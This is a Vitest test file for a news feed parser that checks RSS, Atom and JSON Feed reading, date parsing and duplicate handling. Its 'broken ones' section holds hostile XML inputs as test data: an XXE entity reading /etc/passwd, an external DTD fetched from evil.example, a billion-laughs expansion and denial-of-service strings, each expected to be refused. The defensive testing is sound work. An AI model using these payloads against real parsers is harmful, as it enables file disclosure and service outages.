import { afterAll, beforeAll, describe, expect, it, vi } from 'vitest';
import { type FeedDraft, mappingSchema } from '#contracts/feeds';
import { corpus } from '../../../../tests/corpus/read-corpus.ts';
import { type Deliveries, openDeliveries, verdicts } from '../../../../tests/fakes/deliveries.ts';
import { feed } from './feed.ts';
import { feedMoment } from './feed-moment.ts';

/** RSS, Atom and JSON Feed as they are met, good and broken. */
const read = (bytes: Uint8Array | string, mostRows = 1000) =>
  feed.read(typeof bytes === 'string' ? Buffer.from(bytes) : bytes, mappingSchema.parse({}), { mostRows });

type Row = readonly [id: string, title: string, time: string | null, link: string | null];
describe('good ones', () => {
  it.each<[file: string, encoding: string, rows: readonly Row[]]>([
    [
      ...(['newspaper.xml', 'utf-8'] as const),
      [
        [
          'https://bao.example/sat-lo-4821.html',
          'Sạt lở bờ sông, di dời 12 hộ dân',
          '2026-11-26T01:40:06.000Z',
          'https://bao.example/sat-lo-4821.html',
        ],
        [
          '4820',
          'Cầu "Cồn Én" & đường dẫn thông xe',
          '2026-11-26T00:00:00.000Z',
          'https://bao.example/cau-con-en-4820.html?a=1&b=2',
        ],
        [
          'https://bao.example/gia-lua-4819.html',
          'Giá lúa tăng 200 đồng/kg',
          '2026-11-25T16:59:59.000Z',
          'https://bao.example/gia-lua-4819.html',
        ],
      ],
    ],
    [
      ...(['rss-0.91.xml', 'iso-8859-1'] as const),
      [
        ['http://cang.example/barge', 'Café barge sinks', null, 'http://cang.example/barge'],
        ['http://cang.example/tide', 'High tide', null, 'http://cang.example/tide'],
      ],
    ],
    [
      ...(['rss-0.92.xml', 'utf-8'] as const),
      [
        [
          'http://truc.example/pha.mp3',
          'Phà Cồn Én ngừng 30 phút vì sương mù. Xem',
          null,
          'http://truc.example/pha.mp3',
        ],
        [expect.stringMatching(/^[\da-f]{32}$/), 'Nước rút.', null, null],
      ],
    ],
    [
      ...(['rss-1.0.rdf', 'utf-8'] as const),
      [
        ['http://kho.example/1', 'Tin một', '2026-11-25T01:00:00.000Z', 'http://kho.example/1'],
        ['http://kho.example/2', 'Tin hai', '2026-11-24', 'http://kho.example/2'],
      ],
    ],
    [
      ...(['atom-xhtml.xml', 'utf-8'] as const),
      [
        [
          'tag:so.example,2026:1',
          'Ổ dịch sốt xuất huyết mới',
          '2026-11-25T01:00:00.000Z',
          'https://so.example/tin/2026/1',
        ],
        [
          'tag:so.example,2026:2',
          'Lịch trực Tết & cấp cứu',
          '2026-11-24T17:00:00.000Z',
          'https://so.example/tin/2026/2',
        ],
      ],
    ],
    [
      ...(['podcast.xml', 'utf-8'] as const),
      [['dai-2026-11-26', 'Bản tin sáng thứ Năm', '2026-11-25T22:00:00.000Z', 'https://dai.example/2026-11-26.mp3']],
    ],
    [
      ...(['html-entities.xml', 'utf-8'] as const),
      [['1', 'Phòng cháy – “an toàn” là trên hết 🔥', '2026-11-26T01:00:00.000Z', 'https://trang.example/1?a=1&b=2']],
    ],
    [
      ...(['bom-and-space.xml', 'utf-8'] as const),
      [['hop', 'Họp dân', '2026-11-26T01:00:00.000Z', 'https://xa.example/hop']],
    ],
    [
      ...(['utf-16.xml', 'utf-16'] as const),
      [['1', 'Phường Mỹ Hòa họp về sạt lở', '2026-11-26T01:00:00.000Z', 'https://cu.example/1']],
    ],
    [
      ...(['windows-1258.xml', 'windows-1258'] as const),
      [['1', 'Phường Mỹ Hòa họp về sạt lở', '2026-11-26T01:00:00.000Z', 'https://cu.example/1']],
    ],
    [
      ...(['json-feed.json', 'utf-8'] as const),
      [
        ['https://cong.example/1', 'Lịch tiếp công dân', '2026-11-25T00:30:00.000Z', 'https://cong.example/1'],
        ['2', 'Không có tiêu đề, chỉ có chữ', '2026-11-24T00:00:00.000Z', 'https://noikhac.example/2'],
      ],
    ],
  ])('%s', async (file, encoding, expected) => {
    const reading = await read(corpus(`feeds/${file}`));
    expect(reading.encoding).toBe(encoding);
    expect(reading.rows.map(({ cells }) => ['id', 'title', 'time', 'link'].map((name) => cells.get(name)))).toEqual(
      expected,
    );
  });

  it('keep a short extract in plain words', async () => {
    const details = async (file: string) =>
      (await read(corpus(`feeds/${file}`))).rows.map(({ cells }) => cells.get('detail'));
    expect((await details('newspaper.xml'))[0]).toBe('Bờ sông Hậu sạt 40 m trong đêm, chính quyền đã di dời 12 hộ.');
    expect(await details('atom-xhtml.xml')).toEqual([
      'Ghi nhận 7 ca tại Phường Cồn Én. Đã phun thuốc.',
      'Có đủ & đúng giờ',
    ]);
    expect(await details('podcast.xml')).toEqual(['Cảnh báo triều cường; lịch cắt điện.']);
    expect(await details('html-entities.xml')).toEqual(['R&D "Bến Tràm" Già trẻ &unknown;']);
  });

  it('are feeds also without an item', async () => {
    const empty = '<rss version="2.0"><channel><title>x</title><link>https://x.example</link></channel></rss>';
    expect((await read(empty)).rows).toEqual([]);
  });
});

describe('what becomes of items', () => {
  let test: Deliveries;
  const FEED: Partial<FeedDraft> = {
    ...{ sector: 'mang_xa_hoi', way: 'pull', carries: 'events', format: 'feed' },
    mapping: mappingSchema.parse({ constants: { type: 'tin_bai' } }),
    pull: { url: 'https://bao.example/rss', schedule: '*/15 * * * *', timeoutMs: 1000, mostBytes: 1_000_000 },
  };
  beforeAll(async () => {
    test = await openDeliveries();
  });
  afterAll(() => test.close());
  const faults = (done: Awaited<ReturnType<Deliveries['send']>>) =>
    verdicts(done).flatMap(({ row, verdict, faults: found }) =>
      found.length === 0 ? [] : [[row, verdict, ...found.map(({ code }) => code)]],
    );
  /** What was told to the queue of a feed, once it is so many, by its title. */
  async function told(feedId: string, count: number) {
    const mine = () => test.opened.filter(({ source }) => source.id === feedId);
    await vi.waitFor(() => expect(mine()).toHaveLength(count));
    return mine().toSorted((one, other) => one.title.vi.localeCompare(other.title.vi, 'vi'));
  }

  it('dates are read as their writers mean them; a wrong one costs only its item, and is named', async () => {
    // At noon of the day of most of them.
    test.clock.advance(12 * 3_600_000);
    const added = await test.addFeed(FEED);
    const done = await test.send(added, corpus('feeds/odd-dates.xml'));
    const times = (await told(added.id, 10)).map(({ title, occurredMs }) => [
      ...[title.vi, new Date(occurredMs).toISOString().slice(0, 16)],
    ]);
    expect(Object.fromEntries(times)).toEqual({
      'Năm hai chữ số': '2026-11-26T01:30',
      'Ngày trước tháng': '2026-11-26T00:05',
      'Như cơ sở dữ liệu': '2026-11-25T23:00',
      'Múi giờ bằng chữ': '2026-11-25T22:30',
      'Thứ bằng tiếng Việt': '2026-11-25T21:15',
      'Tháng trước ngày': '2026-11-25T20:10',
      'Giờ Đông Dương': '2026-11-25T13:00',
      'Không múi giờ': '2026-11-25T18:00',
      'Không thứ, không giây': '2026-11-25T17:30',
      'Ngày ba tháng mười một': '2026-11-03T03:00',
    });
    expect(faults(done)).toEqual([
      [11, 'rejected', 'notADate'],
      [12, 'rejected', 'notADate'],
      [13, 'rejected', 'future'],
    ]);
  });

  it('without a date it is when they were first seen, and seen again they are the same', async () => {
    const added = await test.addFeed(FEED);
    const first = await test.send(added, corpus('feeds/rss-0.91.xml'));
    expect(first.batch.counts).toMatchObject({ received: 2, accepted: 2 });
    const firstMs = test.clock.now();
    expect((await told(added.id, 2)).map(({ occurredMs }) => occurredMs)).toEqual([firstMs, firstMs]);
    test.clock.advance(3_600_000);
    const again = await test.send(added, Buffer.concat([corpus('feeds/rss-0.91.xml'), Buffer.from('\n')]));
    expect(again.batch.counts).toMatchObject({ received: 2, duplicate: 2, revised: 0 });
  });

  it('one id for many is none; what is there twice counts once; a link that would run costs its item', async () => {
    const added = await test.addFeed(FEED);
    const done = await test.send(added, corpus('feeds/duplicate-guids.xml'));
    const events = await told(added.id, 7);
    expect(new Set(events.map(({ title }) => title.vi))).toEqual(
      new Set([
        ...['Tin A', 'Tin B', 'Tin C', 'Không mã', 'Không mã, không địa chỉ', 'Địa chỉ là mã', 'Địa chỉ tương đối'],
      ]),
    );
    expect(faults(done)).toEqual([
      [4, 'duplicate', 'duplicateInBatch'],
      [9, 'rejected', 'unreadable'],
    ]);
    expect(events.find(({ title }) => title.vi === 'Địa chỉ tương đối')?.link).toBe('https://trang.example/f');
  });

  it('a place is kept where it is one of the province', async () => {
    const added = await test.addFeed(FEED);
    await test.send(added, corpus('feeds/georss.xml'));
    const events = await told(added.id, 3);
    expect(events.map(({ title, place, areaCode }) => [title.vi, place?.latitude ?? null, areaCode])).toEqual([
      ['Bão ngoài khơi', null, null],
      ['Lốc xoáy ở Long Xuyên', 10.37, '30307'],
      ['Mưa đá', 10.38, '30307'],
    ]);
  });
});

describe('broken ones', () => {
  const whole = corpus('feeds/newspaper.xml').toString();
  const inItem = (text: string, before = ''): string =>
    `<?xml version="1.0"?>${before}<rss version="2.0"><channel><title>x</title><item><title>${text}</title></item></channel></rss>`;
  it.each<[string, string | Uint8Array, string]>([
    ['nothing', '', 'empty'],
    ['spaces', ' \n ', 'empty'],
    ['words', 'Service unavailable', 'notXml'],
    ['a picture', Buffer.from('89504e470d0a1a0a0000000d49484452', 'hex'), 'notXml'],
    ['a web page', '<!DOCTYPE html><html><body>Bảo trì</body></html>', 'html'],
    ['a web page of XML', `<?xml version="1.0"?><!-- x --><!DOCTYPE html PUBLIC "a" "b"><html></html>`, 'html'],
    [
      'a map of a site',
      '<?xml version="1.0"?><urlset><url><loc>https://x.example</loc></url></urlset>',
      'notThisFormat',
    ],
    ['other JSON', '{"items":[{"title":"x"}]}', 'notThisFormat'],
    ['JSON that is cut off', '{"version":"https://jsonfeed.org/version/1.1","items":[{"id":"1"', 'notThisFormat'],
    ['a tag that is not closed', inItem('<b>x'), 'notXml'],
    ['a comment that is not closed', inItem('<!-- x'), 'notXml'],
    ['an entity of its own', inItem('&a;', '<!DOCTYPE rss [<!ENTITY a "b">]>'), 'entities'],
    ['a file of ours', inItem('&a;', '<!DOCTYPE rss [<!ENTITY a SYSTEM "file:///etc/passwd">]>'), 'entities'],
    ['an address', inItem('x', '<!DOCTYPE rss [<!ENTITY % a SYSTEM "http://evil.example/x.dtd"> %a;]>'), 'entities'],
    ['a document type in the middle', inItem('<!DOCTYPE rss SYSTEM "x">'), 'entities'],
    ['nine laughs', laughs(), 'entities'],
    ['depth', inItem(`${'<a>'.repeat(100)}${'</a>'.repeat(100)}`), 'tooDeep'],
    ['depth without an end', '<a>'.repeat(100_000), 'tooDeep'],
    [
      'a thousand and one',
      `<rss version="2.0"><channel><title>x</title>${'<item><title>a</title></item>'.repeat(1001)}</channel></rss>`,
      'tooManyRows',
    ],
  ])('%s is refused as a whole', async (_, bytes, code) => {
    await expect(read(bytes)).rejects.toMatchObject({ code });
  });

  it('cut off anywhere gives one clear error, never half of it', async () => {
    const cuts = Array.from({ length: 40 }, (_, at) => Math.floor((whole.trimEnd().length * at) / 40));
    const codes = await Promise.all(
      cuts.map((length) =>
        read(whole.slice(0, length)).then(
          ({ rows }) => rows.length,
          (error: { code: string }) => error.code,
        ),
      ),
    );
    expect([...new Set(codes)].sort()).toEqual(['empty', 'notXml']);
  });

  it.each<[string, () => string]>([
    ['of signs that stand alone', () => inItem('&'.repeat(5_000_000))],
    ['of entities', () => inItem('&amp;'.repeat(50_000))],
    ['of comments', () => inItem('<!-- <![CDATA[ -->'.repeat(50_000))],
    ['of CDATA', () => inItem('<![CDATA[ <!-- ]]>'.repeat(50_000))],
    ['of one word', () => inItem('x'.repeat(10_000_000))],
  ])('megabytes %s end soon, and cost no more than some copies', { timeout: 20_000 }, async (_, make) => {
    const bytes = Buffer.from(make());
    const before = process.memoryUsage().heapUsed;
    const begun = performance.now();
    await read(bytes).catch((error: { code: string }) => error.code);
    // By far less; a machine that is busy may take its time.
    expect(performance.now() - begun).toBeLessThan(15_000);
    expect(process.memoryUsage().heapUsed - before).toBeLessThan(1_000_000_000);
  });
});

it.each([
  ['Thu, 26 Nov 2026 08:30:00 +0700', '2026-11-26T01:30:00.000Z'],
  ['26 nov 26 08:30 Z', '2026-11-26T08:30:00.000Z'],
  ['Thursday, 26 November 2026 08:30:00 EST', '2026-11-26T13:30:00.000Z'],
  ['Thu, 26 Nov 2026 08:30:00 +0700 (giờ Việt Nam)', '2026-11-26T01:30:00.000Z'],
  ['2026-11-26T08:30:00.5+07:00', '2026-11-26T01:30:00.000Z'],
  ['2026-11-26 08:30:00 +0700', '2026-11-26T01:30:00.000Z'],
  ['11/26/2026 12:05 AM', '2026-11-26T00:05:00'],
  ['26/11/2026 12:05 PM', '2026-11-26T12:05:00'],
  ['26/11/2026 8:05 +0700', '2026-11-26T01:05:00.000Z'],
  ['Th 5, 26/11/2026 08:05', '26/11/2026 08:05'],
  ['2026-11-26', '2026-11-26'],
  ['Thu, 26 Nov 2026 08:30:00 XYZ', '26 Nov 2026 08:30:00 XYZ'],
  ['Thu, 26 Nov 2026 08:75:00 GMT', '26 Nov 2026 08:75:00 GMT'],
  ['sáng nay', 'sáng nay'],
])('the date «%s» is %s', (text, expected) => {
  expect(feedMoment(text)).toBe(expected);
});

/** A hundred bytes that would become gigabytes. */
function laughs(): string {
  const entities = Array.from({ length: 9 }, (_, at) => `<!ENTITY l${at + 1} "${`&l${at};`.repeat(10)}">`).join('');
  return `<?xml version="1.0"?><!DOCTYPE rss [<!ENTITY l0 "ha">${entities}]><rss version="2.0"><channel><title>&l9;</title></channel></rss>`;
}
